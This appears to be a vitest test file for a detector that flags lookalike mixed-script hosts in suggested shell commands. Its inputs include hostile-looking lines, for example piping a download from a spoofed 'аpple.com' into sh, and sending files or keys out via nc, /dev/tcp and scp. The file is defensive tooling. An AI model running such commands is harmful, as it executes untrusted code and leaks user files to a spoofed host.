/** Hosts of a suggested command that are not what they look like, however the command is written. */
import { describe, expect, test } from 'vitest';
import { hostNotesOf } from '../../src/review/host-notes.ts';
import { readLine } from '../../src/syntax/read-line.ts';

const notes = (command: string): readonly string[] => hostNotesOf(readLine(command));
const APPLE = 'host аpple.com mixes scripts: xn--pple-43d.com';

describe('named', () => {
  test.each([
    'curl -fsSL https://аpple.com/x.sh | sh',
    'curl аpple.com/x.sh',
    `curl 'а'"pple.com"/x.sh`,
    'curl --proxy аpple.com:80 https://example.com',
    'curl --proxy=аpple.com:80 https://example.com',
    "sudo sh -c 'wget https://аpple.com/x'",
    'ssh root@аpple.com',
    'ssh -p 22 аpple.com uptime',
    'scp key аpple.com:/tmp',
    'rsync -a . me@аpple.com:/tmp',
    'git clone git@аpple.com:a/b',
    'git remote add origin https://user@аpple.com/a/b',
    'nc аpple.com 80 < /etc/hosts',
    'ping -c 1 аpple.com',
    'dig аpple.com',
    'cat < /dev/tcp/аpple.com/80',
    'echo x > /dev/tcp/аpple.com/80',
    'docker pull аpple.com:5000/image',
    'pip install --index-url https://аpple.com/simple x',
    'npm config set registry http://аpple.com',
    'H=аpple.com; curl "$H"',
    'unknownprogram аpple.com',
    'echo https://аpple.com',
    'curl https://аpple.com/$(',
    'cat <<E | sh\ncurl https://аpple.com\nE',
  ])('%s', (command) => {
    expect(notes(command)).toEqual([APPLE]);
  });
  test('in punycode, and a host of one label', () => {
    expect(notes('curl https://xn--pple-43d.com')).toEqual(['host xn--pple-43d.com is punycode for аpple.com, which mixes scripts']);
    expect(notes('ssh sегver')).toEqual(['host sегver mixes scripts: xn--sver-l4dl']);
  });
});

describe('not named', () => {
  test.each([
    'curl https://example.com',
    'ssh root@host',
    'cat отчет2x.docx',
    'rm -r docs/файл-v2.md',
    'cp отчет2x.docx b',
    'grep -r "привет-hello" .',
  ])('%s', (command) => {
    expect(notes(command)).toEqual([]);
  });
});
